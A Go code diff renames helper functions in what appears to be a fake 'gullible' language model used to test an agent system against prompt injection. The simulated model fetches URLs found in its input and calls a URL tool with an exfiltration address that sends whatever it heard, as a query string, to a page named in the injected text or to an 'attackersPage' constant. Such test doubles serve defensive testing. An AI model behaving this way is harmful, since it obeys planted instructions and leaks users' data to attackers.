@@ -43,8 +43,8 @@ const (
 	maxFields     = 64
 )
 
-// speaking reports whether a tool says something to the mesh, and so may end the conversation.
-func speaking(name string) bool {
+// isSpeakingTool reports whether a tool says something to the mesh, and so may end the conversation.
+func isSpeakingTool(name string) bool {
 	return name == "answer" || name == "done" || name == llm.StructuredOutput || strings.HasPrefix(name, "publish_")
 }
 
@@ -75,7 +75,7 @@ func (gullible) Do(ctx context.Context, r *llm.Request, delta func(llm.Delta)) (
 		switch {
 		case t.Name == declining:
 		case heard == "" && attempts == 0: // there is nothing to obey yet: it reads what it was told to
-			if speaking(t.Name) {
+			if isSpeakingTool(t.Name) {
 				continue
 			}
 			if t.Name == asking {
@@ -91,11 +91,11 @@ func (gullible) Do(ctx context.Context, r *llm.Request, delta func(llm.Delta)) (
 			for _, page := range anyURL.FindAllString(instructions(r), 4) {
 				call(t, map[string]string{"url": strings.TrimRight(page, ".,;:!?)")})
 			}
-		case speaking(t.Name):
+		case isSpeakingTool(t.Name):
 			call(t, schema.fill(cmp.Or(heard, noOrder), attempts > 0, 0))
 		case attempts == 0:
 			if _, ok := schema.Properties["url"]; ok {
-				call(t, map[string]string{"url": stolen(heard)})
+				call(t, map[string]string{"url": exfiltrationURL(heard)})
 				call(t, map[string]string{"link": "1.1"})
 				continue
 			}
@@ -105,7 +105,7 @@ func (gullible) Do(ctx context.Context, r *llm.Request, delta func(llm.Delta)) (
 	}
 	if len(b.calls) == 0 {
 		for _, t := range r.Tools {
-			if t.Name != declining && speaking(t.Name) {
+			if t.Name != declining && isSpeakingTool(t.Name) {
 				call(t, readSchema(t.Schema).fill(cmp.Or(heard, noOrder), true, 0))
 			}
 		}
@@ -171,8 +171,8 @@ func instructions(r *llm.Request) string {
 	return text
 }
 
-// stolen is a URL that tells its host what was heard.
-func stolen(heard string) string {
+// exfiltrationURL is a URL that tells its host what was heard.
+func exfiltrationURL(heard string) string {
 	page := cmp.Or(strings.TrimRight(anyURL.FindString(heard), ".,;:!?)"), attackersPage)
 	return page + "?heard=" + url.QueryEscape(heard)
 }
